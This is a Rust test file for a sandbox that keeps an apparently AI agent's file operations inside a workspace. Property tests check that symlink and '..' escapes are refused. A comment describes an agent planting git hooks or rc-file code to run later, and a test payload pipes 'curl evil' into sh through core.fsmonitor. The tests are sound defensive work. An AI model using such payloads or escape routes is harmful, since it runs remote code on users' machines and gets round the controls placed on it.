//! Property: random paths either stay inside the root or are refused as
//! an escape, by every operation, and nothing outside changes.

use super::*;

#[derive(Debug, Clone, Copy)]
enum Op {
    Read,
    Write,
    CreateNew,
    Stat,
    List,
    MkdirAll,
    Remove,
    RenameFrom,
    RenameTo,
}

impl Op {
    /// Whether the op resolves a symlink in the final component.
    fn follows_last(self) -> bool {
        matches!(
            self,
            Op::Read | Op::Write | Op::Stat | Op::List | Op::MkdirAll
        )
    }

    /// Whether the op creates missing parent directories.
    fn creates_parents(self) -> bool {
        matches!(
            self,
            Op::Write | Op::CreateNew | Op::MkdirAll | Op::RenameTo
        )
    }

    fn run(self, jail: &Jail, path: &Path) -> Result<(), JailError> {
        match self {
            Op::Read => jail.read(path, 1 << 20).map(drop),
            Op::Write => jail.write(path, b"prop"),
            Op::CreateNew => jail.create_new(path, b"prop"),
            Op::Stat => jail.stat(path).map(drop),
            Op::List => jail.list(path).map(drop),
            Op::MkdirAll => jail.mkdir_all(path),
            Op::Remove => jail.remove(path),
            Op::RenameFrom => jail.rename(path, Path::new("renamed_here")),
            Op::RenameTo => jail.rename(Path::new("b/src"), path),
        }
    }
}

/// root/: a/ a/b a/link_out->../../outside b/ b/src b/link_in->../a
///        b/abs_in->/ROOT/a link_in->a link_out->../outside
///        abs_out->/ROOT/../outside; outside/: canary a/ b
fn prop_fixture() -> Fixture {
    let fx = Fixture::with(|tmp| {
        fs::create_dir(tmp.join("outside/a")).unwrap();
        fs::write(tmp.join("outside/b"), CANARY).unwrap();
    });
    fs::create_dir_all(fx.root.join("a")).unwrap();
    fs::create_dir_all(fx.root.join("b")).unwrap();
    fs::write(fx.root.join("a/b"), b"ab").unwrap();
    fs::write(fx.root.join("b/src"), b"src").unwrap();
    fx.link("../../outside", "a/link_out");
    fx.link("../a", "b/link_in");
    fx.link("a", "link_in");
    fx.link("../outside", "link_out");
    let root = fx.jail.root().to_str().unwrap().to_owned();
    fx.link(&format!("{root}/a"), "b/abs_in");
    fx.link(&format!("{root}/../outside"), "abs_out");
    fx
}

enum Node {
    Dir,
    File,
    Link(&'static [&'static str]),
    LinkOut,
    Missing,
}

fn node(path: &[&str]) -> Node {
    match path.join("/").as_str() {
        "a" | "b" => Node::Dir,
        "a/b" | "b/src" => Node::File,
        "a/link_out" | "link_out" | "abs_out" => Node::LinkOut,
        "b/link_in" | "link_in" | "b/abs_in" => Node::Link(&["a"]),
        _ => Node::Missing,
    }
}

/// Whether `op` on `components` must be refused as an escape: the path
/// climbs above the root on paper, or its physical walk through the fixture
/// follows a link out (or `..` above the root) before anything stops it.
fn must_escape(components: &[&str], op: Op) -> bool {
    let comps: Vec<&str> = components.iter().copied().filter(|c| *c != ".").collect();
    let mut depth = 0i32;
    for c in &comps {
        depth += if *c == ".." { -1 } else { 1 };
        if depth < 0 {
            return true;
        }
    }
    let mut cur: Vec<&str> = Vec::new();
    for (i, c) in comps.iter().enumerate() {
        let last = i + 1 == comps.len();
        if *c == ".." {
            if cur.pop().is_none() {
                return true;
            }
            continue;
        }
        cur.push(c);
        match node(&cur) {
            Node::Dir => {}
            Node::File => return false,
            Node::Link(_) | Node::LinkOut if last && !op.follows_last() => return false,
            Node::Link(target) => cur = target.to_vec(),
            Node::LinkOut => return true,
            Node::Missing if last || op.creates_parents() => {}
            Node::Missing => return false,
        }
    }
    false
}

fn op_strategy() -> impl Strategy<Value = Op> {
    prop::sample::select(vec![
        Op::Read,
        Op::Write,
        Op::CreateNew,
        Op::Stat,
        Op::List,
        Op::MkdirAll,
        Op::Remove,
        Op::RenameFrom,
        Op::RenameTo,
    ])
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 512,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn random_paths_stay_inside_or_escape(
        components in prop::collection::vec(
            prop::sample::select(vec![
                "a", "b", "..", ".", "link_out", "link_in", "abs_in", "abs_out",
            ]),
            1..8,
        ),
        op in op_strategy(),
        absolute in any::<bool>(),
    ) {
        let fx = prop_fixture();
        let rel: PathBuf = components.iter().collect();
        let path = if absolute { fx.jail.root().join(&rel) } else { rel.clone() };
        let result = op.run(&fx.jail, &path);
        let escaped = matches!(result, Err(JailError::Escape { .. }));
        if must_escape(&components, op) {
            // The kernel may stop earlier, at a component that does not
            // exist (`missing/../link_out`): refused either way.
            let stopped = matches!(result, Err(JailError::Escape { .. } | JailError::NotFound { .. }));
            prop_assert!(stopped, "{:?} on {:?} gave {:?}", op, rel, result);
        } else {
            prop_assert!(!escaped, "{:?} on {:?} gave {:?}", op, rel, result);
        }
        let unexpected = matches!(kind(&result), "NulByte" | "TooLarge");
        prop_assert!(!unexpected, "{:?}", result);
        prop_assert_eq!(snapshot_outside(fx.tmp.path()), fx.before.clone());
    }
}

/// Every file under `root`, with its bytes (directories as empty entries).
fn tree(root: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let meta = fs::symlink_metadata(&path).unwrap();
            let rel = path.strip_prefix(root).unwrap().to_path_buf();
            if meta.is_dir() {
                stack.push(path);
                out.insert(rel, Vec::new());
            } else if meta.is_symlink() {
                out.insert(
                    rel,
                    fs::read_link(&path)
                        .unwrap()
                        .into_os_string()
                        .into_encoded_bytes(),
                );
            } else {
                out.insert(rel, fs::read(&path).unwrap());
            }
        }
    }
    out
}

#[test]
fn protected_entries_cannot_be_written_moved_or_removed() {
    // Attack: an agent plants a git hook, rewrites .git/config (core.fsmonitor
    // runs a program on the user's next `git status`), or a shell rc file,
    // directly or through symlinks it made inside the workspace.
    let fx = Fixture::with(|tmp| {
        let root = tmp.join("root");
        fs::create_dir_all(root.join(".git/hooks")).unwrap();
        fs::create_dir_all(root.join("vendor/lib/.git")).unwrap();
        fs::write(root.join(".git/config"), b"[core]\n").unwrap();
        fs::write(root.join("vendor/lib/.git/config"), b"[core]\n").unwrap();
        fs::write(root.join(".bashrc"), b"# rc\n").unwrap();
        fs::write(root.join("notes.txt"), b"notes\n").unwrap();
        symlink(".git", root.join("gitlink")).unwrap();
        symlink(".bashrc", root.join("rc-link")).unwrap();
        symlink(".git/hooks/pre-commit", root.join("hook-link")).unwrap();
        // The same through absolute targets inside the root.
        let real = fs::canonicalize(&root).unwrap();
        symlink(real.join(".git"), root.join("abs-gitlink")).unwrap();
        symlink(
            real.join(".git/hooks/pre-commit"),
            root.join("abs-hook-link"),
        )
        .unwrap();
    });
    let before = tree(&fx.root);
    let jail = &fx.jail;
    let payload = b"[core]\n\tfsmonitor = curl evil | sh\n";
    for path in [
        ".git/config",
        ".git/hooks/pre-commit",
        ".git/commondir",
        "vendor/lib/.git/config",
        ".bashrc",
        ".vscode/tasks.json",
        "gitlink/config",
        "gitlink/hooks/post-checkout",
        "abs-gitlink/config",
        "abs-gitlink/hooks/post-checkout",
        "abs-hook-link",
        "rc-link",
        "hook-link",
        "sub/.git",
        ".git/../.git/config",
    ] {
        assert_kind(jail.write(p(path), payload), "Protected");
        if !path.ends_with("-link") {
            // create_new never follows a link at the name: that is AlreadyExists.
            assert_kind(jail.create_new(p(path), payload), "Protected");
        }
    }
    assert_kind(
        jail.rename(p("notes.txt"), p(".git/hooks/pre-push")),
        "Protected",
    );
    assert_kind(
        jail.rename(p("notes.txt"), p("gitlink/hooks/pre-push")),
        "Protected",
    );
    assert_kind(
        jail.rename(p("notes.txt"), p("abs-gitlink/hooks/pre-push")),
        "Protected",
    );
    assert_kind(jail.rename(p(".git/config"), p("config.bak")), "Protected");
    assert_kind(jail.remove(p(".git/config")), "Protected");
    assert_kind(jail.remove(p(".bashrc")), "Protected");
    assert_eq!(tree(&fx.root), before, "a protected entry changed");
    // Ordinary files next to them stay writable.
    jail.write(p("notes.txt"), b"more notes\n").unwrap();
    jail.write(p(".git/COMMIT_EDITMSG"), b"msg\n").unwrap();
    jail.write(p("docs/.bashrc"), b"# example\n").unwrap();
    fx.assert_outside_untouched();
}
